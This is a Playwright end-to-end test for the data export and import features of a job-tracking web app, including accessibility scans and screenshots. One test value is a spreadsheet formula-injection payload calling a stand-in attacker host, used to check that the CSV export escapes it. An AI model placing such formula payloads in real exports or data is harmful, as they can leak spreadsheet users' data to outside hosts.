import { readFile, writeFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { jobTrack } from './support/app';
import { expect, test } from './support/fixtures';

// Downloading everything from the account page and importing it into another account, with
// JavaScript on and off, each page scanned by axe-core and photographed at phone and desktop width.

async function download(page: Page, name: string) {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name }).click(),
  ]);
  const path = test.info().outputPath(file.suggestedFilename());
  await file.saveAs(path);
  return { path, name: file.suggestedFilename(), bytes: await readFile(path) };
}

async function photograph(page: Page, label: string) {
  for (const width of [390, 1280]) {
    await page.setViewportSize({ width, height: 900 });
    await page.screenshot({
      path: test.info().outputPath(`${label}-${width}.png`),
      fullPage: true,
    });
  }
}

test('a person downloads their data and imports it into a second account, once', async ({
  page,
  signedIn,
}) => {
  test.setTimeout(180_000);
  const app = jobTrack(page);
  const main = page.getByRole('main');
  await signedIn({ label: 'export' });
  await app.openList();
  await app.addApplication({
    company: 'Leeds City Council',
    role: 'Policy Officer',
    status: 'Applied',
    notes: '=IMPORTXML("https://attacker.example")',
  });

  await page.goto('/account');
  await expect(main.getByRole('heading', { name: 'Your data' })).toBeVisible();
  await app.landed();
  await photograph(page, 'account');

  const json = await download(page, 'Download all your data (JSON)');
  expect(json.name).toMatch(/^jobtrack-\d{4}-\d\d-\d\d\.json$/);
  const doc = JSON.parse(json.bytes.toString('utf8'));
  expect(doc).toMatchObject({ format: 'jobtrack', version: 1 });
  expect(doc.applications).toEqual([
    expect.objectContaining({ company: 'Leeds City Council', role: 'Policy Officer' }),
  ]);

  const csv = await download(page, 'Download your applications (CSV)');
  expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = csv.bytes.toString('utf8');
  expect(text).toContain('Leeds City Council,Policy Officer,Applied,');
  expect(text).toContain(`"'=IMPORTXML(""https://attacker.example"")"`);

  await test.step('a file that is not an export is refused beside the field', async () => {
    await signedIn({ label: 'import' });
    await page.goto('/account');
    const junk = test.info().outputPath('junk.json');
    await writeFile(junk, '{"not": "ours"}');
    await main.getByLabel('JobTrack export file').setInputFiles(junk);
    await main.getByRole('button', { name: 'Preview the import' }).click();
    await expect(page).toHaveURL(/\/account\/import$/);
    const field = main.getByLabel('JobTrack export file');
    await expect(field).toHaveAccessibleDescription(/This file is not a JobTrack export/);
    await expect(main.getByRole('alert')).toContainText('This file is not a JobTrack export');
    await app.landed();
    await photograph(page, 'import-refused');
  });

  await test.step('the export is previewed, then imported', async () => {
    await main.getByLabel('JobTrack export file').setInputFiles(json.path);
    await main.getByRole('button', { name: 'Preview the import' }).click();
    await expect(main.getByRole('heading', { name: 'Check what will be added' })).toBeVisible();
    await expect(main).toContainText('1 application, with its status history');
    await expect(main).toContainText('Policy Officer at Leeds City Council');
    await app.landed();
    await photograph(page, 'import-preview');
    await main.getByRole('button', { name: 'Import into my account' }).click();
    await expect(page).toHaveURL(/\/applications\?notice=imported$/);
    await expect(page.getByRole('status').filter({ hasText: 'has been imported' })).toBeVisible();
    await expect(main.getByRole('link', { name: /Policy Officer/ })).toHaveCount(1);
    await app.landed();
  });

  await test.step('the same file again adds nothing', async () => {
    await page.goto('/account');
    await main.getByLabel('JobTrack export file').setInputFiles(json.path);
    await main.getByRole('button', { name: 'Preview the import' }).click();
    await expect(main).toContainText('Everything here is already in your account');
    await expect(main.getByRole('button', { name: 'Import into my account' })).toHaveCount(0);
    await app.landed();
    await app.openList();
    await expect(main.getByRole('link', { name: /Policy Officer/ })).toHaveCount(1);
  });
});
